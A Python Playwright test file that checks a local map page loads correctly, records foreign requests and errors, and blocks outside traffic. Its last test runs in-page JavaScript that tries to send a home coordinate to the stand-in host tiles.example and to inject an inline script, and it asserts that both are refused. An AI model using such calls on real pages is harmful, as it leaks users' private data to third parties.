"""The page opens, in a real browser, from a real `tracklake map`."""

from pathlib import Path

from playwright.sync_api import Browser

from tests.web import harness
from tests.web.conftest import OpenMap, Serve
from tests.web.harness import MapServer


def test_the_page_opens(open_map: OpenMap) -> None:
    """The first view is drawn without an error and without asking anybody but this machine."""
    visit = open_map()
    state = visit.page.evaluate("document.documentElement.dataset.state")
    assert (state, visit.problems, visit.foreign) == ("ready", [], [])


def test_without_tiles_it_says_what_to_run(open_map: OpenMap, serve: Serve, tmp_path: Path) -> None:
    """Before the first flow the page loads and names the command."""
    visit = open_map(server=serve(place=tmp_path))
    assert visit.page.evaluate("document.documentElement.dataset.state") == "empty"
    assert "make flow" in visit.page.inner_text("body")
    visit.problems.clear()  # the manifest's 404


def test_the_watch_sees_strangers(browser: Browser, map_server: MapServer) -> None:
    """A page that asks others and makes errors is found out: the other tests could fail."""
    visit = harness.open_visit(browser, map_server.url, "", (400, 300), dark=False, touch=False)
    visit.page.set_content(
        "<img src='http://tiles.example/1.png'><script>console.error('oh'); nothing.at.all</script>"
    )
    visit.page.goto(f"{map_server.url}/tiles/nothing.json")
    visit.page.context.close()
    assert visit.foreign == ["http://tiles.example/1.png"]
    assert f"404: {map_server.url}/tiles/nothing.json" in visit.problems
    assert {"console: oh", "script: nothing is not defined"} <= set(visit.problems)
    assert any(problem.startswith("failed: http://tiles.example") for problem in visit.problems)


def test_the_policy_keeps_the_page_here(open_map: OpenMap) -> None:
    """A script in the page cannot send anything to another host, nor run text as code."""
    visit = open_map()
    refused = visit.page.evaluate(
        """async () => {
          const sent = await fetch("http://tiles.example/?home=41.39,2.16").then(() => 1, () => 0);
          const script = document.createElement("script");
          script.textContent = "window.owned = true";
          document.body.append(script);
          return [sent, window.owned ?? 0];
        }"""
    )
    assert (refused, visit.foreign) == ([0, 0], [])
    visit.problems.clear()  # the browser reports what it refused
